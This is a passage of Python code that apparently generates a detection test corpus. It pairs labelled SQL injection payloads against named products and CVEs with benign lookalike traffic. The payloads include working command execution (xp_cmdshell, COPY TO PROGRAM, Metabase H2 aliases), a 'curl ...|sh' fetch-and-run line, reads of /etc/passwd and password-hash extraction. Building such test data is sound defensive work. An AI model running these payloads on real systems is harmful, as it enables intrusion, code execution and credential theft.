    ("hasura-run-sql", "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6',"
                       "'system' LANGUAGE 'c' STRICT; SELECT sys('id');"),
    ("hasura-run-sql", "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''curl http://203.0.113.9/x|sh'''; END $$;"),
    ("grafana-ds-query", "CREATE FUNCTION x() RETURNS text AS $$ import os; return os.popen('id').read() $$ "
                         "LANGUAGE plpython3u; SELECT x();"),
    ("grafana-ds-query", "SELECT * FROM pg_stat_file('/var/lib/postgresql'); CALL pg_reload_conf();"),
    # H2 (Metabase): CREATE ALIAS as a Java stored procedure
    ("metabase-validate", "CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException "
                          "{ java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd)"
                          ".getInputStream()).useDelimiter(\"\\\\A\"); return s.hasNext() ? s.next() : \"\"; }$$"
                          "\\;CALL SHELLEXEC('id')\\;--=x"),
    ("metabase-validate", "CALL CSVWRITE('/tmp/x.sh', 'SELECT ''id''')\\;--=x"),
    # MySQL: UDF sys_exec, CALL, LOAD DATA (phpMyAdmin console, WP-Automatic q)
    ("phpmyadmin-import", "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'; SELECT sys_exec('id');"),
    ("phpmyadmin-import", "SELECT sys_eval('id')"),
    ("phpmyadmin-import", "CALL mysql.rds_set_configuration('binlog retention hours', 1)"),
    ("wp-automatic", "LOAD DATA INFILE '/etc/passwd' INTO TABLE wp_options FIELDS TERMINATED BY '\\n'"),
    ("wp-automatic", "CREATE PROCEDURE p() BEGIN SELECT user_pass FROM wp_users; END; CALL p();"),
    # the sort parameters of Spring Data and dotCMS on SQL Server, Django and Rails on PostgreSQL
    ("spring-data-sort", "name;EXEC xp_cmdshell 'whoami'--"),
    ("dotcms-contenttype", "name;EXEC master..xp_cmdshell 'hostname'--"),
    ("django-orderby", "id; COPY (SELECT '') TO PROGRAM 'id'; --"),
    ("rails-order", "id; SELECT lo_export(lo_from_bytea(0,'#!/bin/sh\nid'),'/tmp/x.sh'); --"),
]

# having/group-by/order-by probing: column counting and injection in ORDER BY and GROUP BY clauses
ORDER_BY: list[Entry] = [
    # Joomla 3.7 com_fields list[fullordering] (CVE-2017-8917)
    ("joomla-fields", "1 desc,(select 1 from (select count(*),concat(user(),floor(rand(0)*2))x from "
                      "information_schema.tables group by x)a)"),
    ("joomla-fields", "a.id,(case when 1=1 then 1 else (select 1 union select 2) end)"),
    # Ultimate Member sorting (CVE-2024-1071) and Form Maker asc_or_desc
    ("wp-ultimate-member", "user_login,SLEEP(5)"),
    ("wp-ultimate-member", "(CASE WHEN (SELECT 1 FROM wp_users WHERE ID=1 AND user_pass LIKE '$P$B%')=1 THEN "
                           "user_login ELSE user_email END)"),
    ("wp-form-maker", ",(select 1 from (select count(*),concat(database(),floor(rand(0)*2))x from "
                      "information_schema.tables group by x)a) asc"),
    ("wp-form-maker", "asc limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    # PrestaShop blockwishlist order (CVE-2022-31101)
    ("ps-blockwishlist", "p.name, (select case when (1=1) then (SELECT SLEEP(7)) else 1 end); --"),
    ("ps-blockwishlist", "p.name, (select case when (ascii(substring(database(),1,1))>64) then 1 else "
                         "(select 1 union select 2) end)"),
    # Laravel-admin _sort[column], LearnPress order_by, dotCMS orderby
    ("laravel-admin", "id` desc, if(1=1,1,(select 1 union select 2))#"),
    ("wp-learnpress", "post_title, (select 1 from wp_users group by concat(user_pass,floor(rand(0)*2)) having "
                      "min(0))"),
    ("wp-learnpress", "post_date desc limit 1 into @,@"),
    ("dotcms-contenttype", "mod_date,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)"),
    # ThinkPHP 5 order key
    ("thinkphp5-order", "order[id`|updatexml(1,concat(0x3a,user()),1)%23]=1", "raw-query"),
    ("thinkphp5-order", "order[id`,(select sleep(5))%23]=1", "raw-form"),
    # column counting (the first step of every UNION exploit)
    ("dvwa-sqli", "1' order by 3#"),
    ("dvwa-sqli", "1' group by 1,2,3-- -"),
    ("joomla-component", "1 order by 27--"),
    ("wp-perfect-survey", "1 order by 11"),
    ("vb-forumrunner", "1) order by 10-- -"),
    ("gogs-search", "') order by 10--"),
    ("juice-search", "')) order by 9--"),
    ("cmsms-news", "1) group by 1,2,3,4 having 1=1-- -"),
    ("nagiosxi-banner", "1 having 1=1"),
    ("zabbix-latest", "1) group by userid having count(*)>0-- -"),
    # SQL Server HAVING / GROUP BY errors that name the columns (GRP-U8, e-cology)
    ("weaver-getdata", "select * from HrmResource having 1=1"),
    ("yonyou-grp-u8", "select * from UA_User group by cUser_Id having 1=1"),
    ("ivanti-epm", "' GROUP BY Computer_Idn HAVING 1=1--"),
    # PostgreSQL ORDER BY (Spring Data Sort, Django order_by, Rails order)
    ("spring-data-sort", "name,(select case when (1=1) then 1 else 1/(select 0) end)"),
    ("django-orderby", "(SELECT CASE WHEN (SELECT count(*) FROM auth_user WHERE is_superuser)>0 THEN id ELSE "
                       "name END)"),
    ("rails-order", "name ASC NULLS FIRST, (SELECT 1 GROUP BY 1 HAVING count(*)>0)"),
]

# like/between/in operators: the comparisons of a blind search (LIKE patterns, BETWEEN ranges, IN lists, RLIKE)
LIKE_BETWEEN_IN: list[Entry] = [
    ("cmsms-news", "a,b,1,5)) and (select sleep(1) from cms_users where password like 0x6125 and user_id like "
                   "0x31)-- "),
    ("wp-pmpro", "a' and (select user_pass from wp_users where ID=1) like '$P$B%'-- -"),
    ("wp-layerslider", "1) and (select user_login from wp_users limit 1) like 'adm%'-- -"),
    ("wp-statistics", "1 AND (SELECT user_pass FROM wp_users WHERE ID=1) LIKE BINARY '$P$B%' AND SLEEP(5)"),
    ("wp-ultimate-member", "(case when (select user_pass from wp_users where ID=1) like '$P$A%' then user_login "
                           "else ID end)"),
    ("dvwa-blind", "1' and (select password from users where user='admin') like '5f4%'#"),
    ("dvwa-blind", "1' and ascii(substring(user(),1,1)) between 97 and 122#"),
    ("dvwa-blind", "1' and user() in ('root@localhost','dvwa@localhost')#"),
    ("joomla-fields", "if((select password from #__users limit 1) like '$2y$%',1,(select 1 union select 2))"),
    ("zabbix-jsrpc", "if((select passwd from users where alias='Admin') like '5fce%',0,updatexml(0,0x7e,0))"),
    ("zabbix-latest", "1) and (select count(*) from users where passwd between '0' and '8')>0-- -"),
    ("cacti-graph-view", "x' and (select password from user_auth where id=1) rlike '^\\\\$2y'-- -"),
    ("nagiosxi-banner", "1 and (select api_key from xi_users where user_id=1) like 'a%'"),
    ("rconfig-commands", "command and (select password from users limit 1) regexp '^[a-f0-9]{32}$'"),
    ("gogs-search", "') and (select passwd from user where id=1) like 'a%' and ('%'='"),
    ("juice-search", "')) and (select password from Users where id=1) like '0192%'--"),
    ("juice-search", "')) and (select count(*) from Users where email glob '*@juice-sh.op')>0--"),
    ("openemr-validate", "x' and (select count(*) from users_secure where id between 1 and 1)=1-- -"),
    ("vb5-infraction", "1 AND (SELECT userid FROM user WHERE username='admin') IN (1,2,3)"),
    ("pandora-chart", "' or id_user in (select id_user from tusuario where is_admin=1)-- -"),
    ("thinkphp3-where", "1 and (select username from think_user limit 1) not like 'a%'"),
    ("spring-data-sort", "(case when (select rolname from pg_roles where rolsuper limit 1) like 'post%' then name else "
                         "email end)"),
    ("django-orderby", "(CASE WHEN (SELECT password FROM auth_user WHERE id=1) ILIKE 'pbkdf2%' THEN id ELSE name "
                       "END)"),
    ("rails-order", "(CASE WHEN (SELECT encrypted_password FROM users LIMIT 1) SIMILAR TO '\\$2a%' THEN id ELSE name "
                    "END)"),
    ("yonyou-grp-u8", "select 1 where (select top 1 cPassword from UA_User) like 'a%'"),
    ("weaver-getdata", "select id from HrmResourceManager where password like 'c4ca%'"),
    ("ivanti-epm", "' AND (SELECT TOP 1 name FROM sys.sql_logins) LIKE 's%'--"),
    ("weaver-workflowcenter", "1)))and (select password from HrmResourceManager where rownum=1) like 'C%' and(((1"),
]

FAMILIES: list[tuple[str, list[Entry]]] = [
    ("libinjection-sqli", LIBINJECTION),
    ("sql-tautology-boolean", TAUTOLOGY),
    ("sql-comment-sequence", COMMENT_SEQUENCE),
    ("union-select", UNION_SELECT),
    ("stacked-queries", STACKED),
    ("time-based-blind", TIME_BASED),
    ("error-based", ERROR_BASED),
    ("out-of-band", OUT_OF_BAND),
    ("information-schema-probing", CATALOG),
    ("mysql-comment-obfuscation", MYSQL_COMMENT),
    ("function-based-probing", FUNCTION_PROBING),
    ("sql-authentication-bypass", AUTH_BYPASS),
    ("nosql-injection", NOSQL),
    ("hex-char-encoding", HEX_CHAR),
    ("stored-procedure-xp-cmdshell", STORED_PROC),
    ("having-group-order-by-probing", ORDER_BY),
    ("like-between-in-operators", LIKE_BETWEEN_IN),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_CYCLE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
              "param-name", "xml", "multipart-field", "path", "stats", "admin-search"]
SUB_CYCLES = {"sql-authentication-bypass": ["login", "login-password", "json", "form", "cookie"]}
REAL_NAMES = ["q", "team_id", "sort", "order", "filter", "id", "limit", "offset", "name"]


class _Set(BlindSet):
    """Our routes; the regression-suite copy is the product's own exploit request (_product)."""

    prefix = NAME
    boundary = "----WebKitFormBoundaryq3Zt7Lm2XcV9pB1a"
    kv_safe = "=&[]._-:/'*$!(),;{}~@%^`|"
    page = ("limit", "50")

    def _p_form(self, p: Put) -> Record:   # the admin search box
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]), "body": CSRF + "q=" + enc(p.v)}

    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p))

    def _p_raw_form(self, p: Put) -> Record:
        return request("POST", "/admin/users/search", CSRF + self._raw(p), FORM)

    def _p_stats(self, p: Put) -> Record:
        return _get("/api/usage/stats?since=" + enc(p.v) + "&until=2024-06-02T00%3A00%3A00Z")

    def _p_admin_search(self, p: Put) -> Record:
        return _get(_query("/admin/users", [("q", p.v), ("page", "1")]))

    def _p_login(self, p: Put) -> Record:
        return request("POST", "/admin/login", "username=" + enc(p.v) + "&password=hunter2&next=%2Fadmin%2F", FORM)

    def _p_login_password(self, p: Put) -> Record:
        return request("POST", "/admin/login", "username=admin&password=" + enc(p.v) + "&next=%2Fadmin%2F", FORM)


SET = _Set()


def _product(prod: Product, v: str) -> tuple[str, dict[str, Any]]:
    """The product's own exploit request; returns its placement ("rs-" and the carrier kind) and the request."""
    method, path, param, kind, extra, wrap, headers = prod
    filled = wrap.replace(HOLE, v)
    sep = "&" if "?" in path else "?"
    if kind == "query":
        return "rs-query", request(method, path + sep + param + "=" + enc(filled), **headers)
    if kind == "query2":
        return "rs-query-double-encoded", request(method, path + sep + param + "=" + enc(enc(filled)), **headers)
    if kind in ("form", "form-md5", "b64-form", "form-xml"):
        value = filled
        if kind == "b64-form":
            value = base64.b64encode(filled.encode()).decode()
        if kind == "form-xml":
            value = wrap.replace(HOLE, xml_escape(v))
        body = (extra + "&" if extra else "") + param + "=" + enc(value)
        if kind == "form-md5":
            body += "&integ=" + hashlib.md5(value.encode(), usedforsecurity=False).hexdigest()
        return "rs-" + kind, request(method, path, body, FORM, **headers)
    if kind == "json":
        return "rs-json", request(method, path, json.dumps({param: filled}), "application/json", **headers)
    if kind == "json-tpl":
        body = wrap.replace(HOLE, json.dumps(v)[1:-1])
        return "rs-json-document", request(method, path, body, "application/json", **headers)
    if kind == "json-body":
        return "rs-json-body", request(method, path, v, "application/json", **headers)
    if kind == "cookie":
        return "rs-cookie", request(method, path, Cookie=param + "=" + enc(filled, safe=COOKIE_SAFE), **headers)
    if kind == "header":
        return "rs-header:" + param, request(method, path, **{param: filled}, **headers)
    if kind == "raw-query":
        return "rs-raw-query", request(method, path + sep + enc(filled, safe=SET.kv_safe), **headers)
    if kind == "raw-form":
        body = (extra + "&" if extra else "") + enc(filled, safe=SET.kv_safe)
        return "rs-raw-form", request(method, path, body, FORM, **headers)
    if kind == "param-name":
        return "rs-param-name", request(method, path + sep + enc(filled) + "=1", **headers)
    if kind == "xml":
        return "rs-soap", request(method, path, wrap.replace(HOLE, xml_escape(v)), extra, **headers)
    if kind == "path":
        return "rs-path", request(method, path + enc(filled), **headers)
    raise ValueError(kind)


def _carrier(prod: Product, entry: Entry) -> Product:
    """Entries whose payload is a whole document or a `name=value` string override the product's carrier."""
    if len(entry) == 3 and entry[2] in ("raw-query", "raw-form", "json-body"):
        method, path, _, kind, extra, _, headers = prod
        if kind in ("raw-query", "raw-form", "json-body"):
            return prod
        new_kind = entry[2]
        if new_kind == "raw-form" and method == "GET":
            method = "POST"
        return (method, path, "", new_kind, extra, HOLE, headers)
    return prod


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (sub, entries) in enumerate(FAMILIES):
        cycle = SUB_CYCLES.get(sub, REAL_CYCLE)
        for i, entry in enumerate(entries):
            product, payload = entry[0], entry[1]
            real_place = entry[2] if len(entry) == 3 else SET.cycled(cycle, i + s, payload, SET.fallback, i)
            name = REAL_NAMES[(i + s) % len(REAL_NAMES)]
            rs_place, rs_req = _product(_carrier(PRODUCTS[product], entry), payload)
            for place, rec in ((real_place, SET.real(real_place, name, payload)), (rs_place, rs_req)):
                n += 1
                yield SET.record(rec, n, "sqli", sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same products, keywords and SQL typed innocently (support chat and bios, searches, admin notes,
# advisory and documentation links, profiles, uploads' file names, ordinary headers)
CHAT = [
    # WordPress and its plugins
    "heads up: LayerSlider 7.10 is out with the security fix, please update the marketing site today",
    "Ultimate Member update broke the member directory sorting, rolled back to 2.8.2 for now",
    "WP Statistics shows 0 visits since Tuesday, I think the REST hit endpoint is blocked by the cache plugin",
    "Paid Memberships Pro renewal emails go out at 9am, the order code is in the subject line",
    "anyone know why admin-ajax.php is so slow on the blog? 3s per request in New Relic",
    "WP Fastest Cache cleared, the homepage shows the new banner now",
    "Modern Events Calendar import from the old CSV worked, 214 events",
    "we're replacing WP Google Maps with a static map image, fewer plugins = fewer CVEs",
    "Form Maker submissions export is under Submissions > Export, choose CSV",
    "WooCommerce Blocks 11 changed the attribute filter, the colour counts look right again",
    "LearnPress course order is by date by default, you can change it in Settings > Courses",
    "Loginizer locked me out after 3 wrong passwords, can someone whitelist 203.0.113.10?",
    # Drupal, Joomla, Magento, vBulletin, phpMyAdmin
    "Drupal 7 is end of life since January 2025, the migration to Drupal 10 starts next sprint",
    "Joomla 5.1 upgrade done, com_fields custom fields survived",
    "Magento 2.4.7 patch applied on staging, checkout tested with the sandbox card",
    "the old vBulletin forum is read only now; export of the user table is in the shared drive",
    "please don't leave phpMyAdmin exposed on the public IP, use the SSH tunnel",
    "ThinkPHP 6 upgrade of the partner portal is blocked on the Chinese payment SDK",
    "Laravel 11 ships with the new slimmer skeleton, the admin panel still uses laravel-admin",
    # monitoring and infrastructure
    "Zabbix 7.0 LTS upgrade is done, the latest data page loads much faster",
    "Cacti graph tree is gone after the migration, re-importing the templates",
    "Nagios XI banner message about the maintenance window is up",
    "Pandora FMS agent on the db host stopped reporting, restarted the service",
    "rConfig backups of the core switches ran fine last night",
    "ZoneMinder lost the front door camera again, probably the PoE switch",
    "Grafana panel for login failures uses a raw SQL query against the replica, it's read only",
    "Hasura console should never be exposed without the admin secret, I set HASURA_GRAPHQL_ADMIN_SECRET",
    "Metabase question 'Weekly signups' is broken after the column rename, fixing it",
    "FortiWeb firmware 7.6.4 is scheduled for the weekend change window",
    "Ivanti EPM agent rollout reached 92% of the laptops",
    "Gogs to Gitea migration finished, the old URLs redirect",
    # SQL in ordinary engineering chat
    "ran SELECT count(*) FROM users WHERE is_active = true on the replica: 4,211",
    "the slow query was an ORDER BY created_at DESC without an index, added one",
    "we use UNION ALL in the report view to merge the two invoice tables",
    "GROUP BY team_id HAVING count(*) > 100 gives us the big workspaces",
    "the migration adds a column with DEFAULT now(), should take a second on Postgres 16",
    "pg_sleep in the integration test was a hack, replaced it with a proper wait",
    "the LIKE '%term%' search can't use the btree index, we should try pg_trgm",
    "BETWEEN is inclusive on both ends, that's why the report double counts midnight",
    "use WHERE id IN (...) with at most 1000 ids, Oracle complains above that",
    "information_schema.columns is the easiest way to list the columns in the audit script",
    "SQL Server xp_cmdshell is disabled on all our instances, checked with the DBA",
    "MongoDB $regex queries on the email field are slow without an anchored prefix",
    "the Mongo filter {status: {$in: ['open', 'pending']}} returns the right tickets",
    "CouchDB replication to the backup node is lagging by 2 hours",
    "Rocket.Chat is being retired, everyone moved to Slack",
    "Strapi password reset emails work again after the SMTP change",
    "Parse Server dashboard moved behind the VPN",
    "sqlmap found nothing on the staging API in the pentest report, good news",
    "the pentest report lists a SQL injection in the old PHP shop, fixed in PR 812",
    "CVE-2024-27956 affects WP-Automatic, we don't run it, nothing to do",
    "the WAF blocked the Joomla admin login from the office, it was a false alarm on a password",
    "hex colours in the theme: #1a1a2e for the header, #e94560 for buttons",
    "sleep schedule for the on-call rotation: no pages between 1am and 6am unless P1",
    "the union meeting is on Thursday at 3pm in room 2",
    "order by Friday please, the supplier closes for the holidays",
    "select the team you want to switch to in the top left corner",
    "my password manager generated a 32 char password, the login form accepts it fine",
    "Juice Shop is running on the training laptop for the security workshop",
    "DVWA is only on the isolated lab VLAN, never on the office network",
]
SEARCHES = [
    "wordpress", "layerslider", "ultimate member", "wp statistics", "paid memberships pro", "woocommerce",
    "learnpress", "loginizer", "form maker", "drupal", "joomla", "magento", "vbulletin", "phpmyadmin", "thinkphp",
    "laravel", "spring data", "django", "rails", "zabbix", "cacti", "nagios", "pandora", "rconfig", "zoneminder",
    "cms made simple", "gogs", "prestashop", "dotcms", "openemr", "fortiweb", "ivanti", "yonyou", "weaver",
    "metabase", "hasura", "grafana", "juice shop", "rocket.chat", "strapi", "mongo", "couchdb", "parse",
    "select", "union", "order", "group", "having", "sleep", "benchmark", "delay", "waitfor", "like", "between",
    "in", "or", "and", "admin", "root", "sa", "postgres", "oracle", "mysql", "mssql", "sqlite", "sql server",
    "information", "schema", "catalog", "char", "ascii", "substring", "concat", "hex", "cast", "convert",
    "O'Brien", "O'Reilly", "D'Angelo", "Union Street", "Sleepy Hollow", "Order of Merit", "Select Comfort",
]
PROSE = [
    "Customer on WordPress 6.5 with LayerSlider asked whether they are affected by the advisory; they are on the "
    "fixed version.",
    "Joomla site of the partner was defaced last year; they moved to a managed host since.",
    "Magento store owner reports slow checkout; the cache was disabled after the patch.",
    "The Zabbix dashboard for the payment hosts is shared with the on-call team.",
    "Grafana alert: replica lag over 30 seconds for 10 minutes; resolved by itself.",
    "Please select the correct billing plan before the renewal date.",
    "Order #10442 was refunded; the customer will order again next week.",
    "Group the tickets by customer and sort them by date, oldest first.",
    "The union of both mailing lists has 1,204 unique addresses.",
    "Between May and June the signups doubled.",
    "Customers in the EU, UK and CH are billed in euros.",
    "Sleep well, the release is tomorrow at 8.",
    "Insert the new logo on the cover page and update the table of contents.",
    "Drop the old staging database after the backup is verified.",
    "Delete the duplicate accounts of O'Brien and O'Neil, keep the oldest.",
    "Update the wiki page about Metabase dashboards.",
    "Having trouble with the VPN? Restart the client and try again.",
    "The SQL Server licence renewal is due in September.",
    "Oracle support ticket 3-2941 is still open.",
    "PostgreSQL 16 upgrade on the analytics cluster is done.",
    "MySQL 5.7 is end of life; the forum database moves to 8.0.",
    "MongoDB Atlas bill went up after the index rebuild.",
    "The pentest found no SQL injection in the public API.",
    "The phpMyAdmin instance on the old server was removed.",
    "FortiWeb blocks the scanner traffic from the pentest vendor; allowlist their IPs for the test window.",
    "Ivanti EPM inventory shows 14 laptops without the latest patches.",
    "Cacti will be replaced by Grafana with Prometheus in Q4.",
    "Nagios XI licence covers 200 nodes; we use 183.",
    "The Drupal 7 site is archived as static HTML.",
    "The vBulletin forum export is in the legal hold bucket.",
    "Hex codes for the brand colours are in the style guide.",
    "Char limit for the SMS template is 160 characters.",
    "Like last year, the office closes between Christmas and New Year.",
    "Admin accounts need MFA by the end of the month.",
    "Root cause: an expired certificate on the load balancer.",
    "The rConfig backup of the firewall config failed once; retried successfully.",
    "ZoneMinder recordings older than 30 days are purged.",
    "Strapi content types for the blog were migrated.",
    "The Rocket.Chat archive is read only.",
    "CouchDB is only used by the legacy mobile sync service.",
]
URLS = [
    "https://wordpress.org/plugins/layerslider/",
    "https://wordpress.org/plugins/ultimate-member/#developers",
    "https://wordpress.org/plugins/wp-statistics/",
    "https://wordpress.org/plugins/paid-memberships-pro/",
    "https://developer.wordpress.org/reference/classes/wp_query/#taxonomy-parameters",
    "https://developer.wordpress.org/reference/functions/wpdb/prepare/",
    "https://www.drupal.org/forum/newsletters/security-advisories-for-drupal-core/2014-10-15/sa-core-2014-005-drupal",
    "https://docs.joomla.org/J4.x:Adding_Custom_Fields",
    "https://experienceleague.adobe.com/docs/commerce-operations/release/notes/security-patches/overview.html",
    "https://docs.phpmyadmin.net/en/latest/setup.html#securing-your-phpmyadmin-installation",
    "https://www.thinkphp.cn/",
    "https://laravel.com/docs/11.x/queries#ordering-grouping-limit-and-offset",
    "https://docs.spring.io/spring-data/jpa/reference/repositories/query-methods-details.html",
    "https://docs.djangoproject.com/en/5.0/ref/models/querysets/#order-by",
    "https://guides.rubyonrails.org/active_record_querying.html#ordering",
    "https://www.zabbix.com/documentation/current/en/manual/web_interface/frontend_sections/monitoring/latest_data",
    "https://docs.cacti.net/Graph-Overview.md",
    "https://www.nagios.com/products/nagios-xi/",
    "https://pandorafms.com/manual/en/start",
    "https://www.rconfig.com/docs",
    "https://zoneminder.readthedocs.io/en/latest/",
    "https://docs.gitea.com/installation/upgrade-from-gogs",
    "https://docs.fortinet.com/product/fortiweb/7.6",
    "https://help.ivanti.com/ld/help/en_US/LDMS/2024/Windows/Default.htm",
    "https://www.metabase.com/docs/latest/questions/native-editor/writing-sql",
    "https://hasura.io/docs/latest/deployment/securing-graphql-endpoint/",
    "https://grafana.com/docs/grafana/latest/datasources/postgres/query-editor/",
    "https://owasp.org/www-project-juice-shop/",
    "https://github.com/digininja/DVWA",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://docs.couchdb.org/en/stable/intro/security.html",
    "https://docs.rocket.chat/docs/rest-api",
    "https://docs.strapi.io/dev-docs/plugins/users-permissions",
    "https://docs.parseplatform.org/rest/guide/#queries",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://www.sqlite.org/lang_select.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-8917",
    "https://nvd.nist.gov/vuln/detail/CVE-2023-38646",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://shop.example.com/search?q=union+jack+flag&order=price_asc",
    "https://blog.example.com/2024/03/why-we-moved-from-mysql-to-postgres",
]
PROFILES = [
    ("Jenna Union", "Union Square 1, San Francisco"),
    ("Marcus Select", "12 Select Way, Leeds"),
    ("Olivia Order", "Order Lane 3, Bristol"),
    ("Sean O'Brien", "14 Grafton St, Dublin"),
    ("Tara O'Reilly", "Main St 22, Galway"),
    ("Lucas D'Angelo", "Via Garibaldi 8, Torino"),
    ("Sleepy Hollow Inn", "Route 9, Sleepy Hollow, NY"),
    ("Group Travel Ltd", "Harbour Rd 4, Plymouth"),
    ("Having Fun Kids Club", "Park Ave 5, Austin"),
    ("Hex Design Studio", "Kanalstraat 7, Utrecht"),
    ("Char Grill House", "Beach Rd 11, Perth"),
    ("Oracle Dental", "Delphi Rd 2, Athens"),
    ("Joomla Friends e.V.", "Bergstraße 3, Köln"),
    ("Drupal Meetup Ghent", "Korenmarkt 1, Gent"),
    ("Magento Partners BV", "Keizersgracht 100, Amsterdam"),
    ("Zabbix Users Riga", "Brivibas iela 20, Riga"),
    ("Ana María Núñez", "Calle Mayor 4, Madrid"),
    ("Zoë Müller", "Bahnhofstraße 1, Zürich"),
    ("Admin Services Pty", "George St 100, Sydney"),
    ("Root & Branch Gardening", "Elm Close 6, York"),
    ("Between Lines Bookshop", "High St 40, Oxford"),
    ("Mongo Bay Surf School", "Ocean Dr 3, Byron Bay"),
]
UPLOAD_NAMES = [
    "sql-injection-training-slides.pdf", "pentest-report-2024-q2.pdf", "wordpress-plugin-inventory.xlsx",
    "joomla-migration-plan.docx", "magento-patch-notes.txt", "zabbix-templates-export.xml", "grafana-dashboard.json",
    "metabase-weekly-signups.csv", "select_fields_mapping.csv", "union-contract-2024.pdf", "order_123456.pdf",
    "group-photo.jpg", "schema-diagram.png", "information-pack.pdf", "db_dump_description.md",
    "O'Brien invoice.pdf", "sleep-study-results.pdf", "between-the-lines.epub", "admin-guide-v2.pdf",
    "xp_migration_checklist.xlsx",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "WordPress/6.5.3; https://blog.example.com"),
    ("User-Agent", "Zabbix 7.0"),
    ("User-Agent", "Grafana/11.0.0"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "PostmanRuntime/7.39.0"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("Referer", "https://blog.example.com/wp-admin/admin.php?page=layerslider"),
    ("Referer", "https://grafana.example.com/d/abc123/db-overview?orgId=1&from=now-6h&to=now"),
    ("Referer", "https://zabbix.example.com/zabbix.php?action=latest.view&filter_set=1"),
    ("Referer", "https://www.google.com/search?q=sql+order+by+multiple+columns"),
    ("Referer", "https://metabase.example.com/question/42-weekly-signups"),
    ("Referer", "https://shop.example.com/catalog/product/view/id/127?sort=price&dir=asc"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "5e2f8a1c-7b3d-4f6e-9a0b-1c2d3e4f5a6b"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; wp-settings-time-1=1717000000; theme=light"),
    ("Cookie", "session=abc123; last_search=order%20by%20date; sort=desc"),
    ("Cookie", "session=abc123; grafana_session_expiry=1717003600; lang=en-US"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
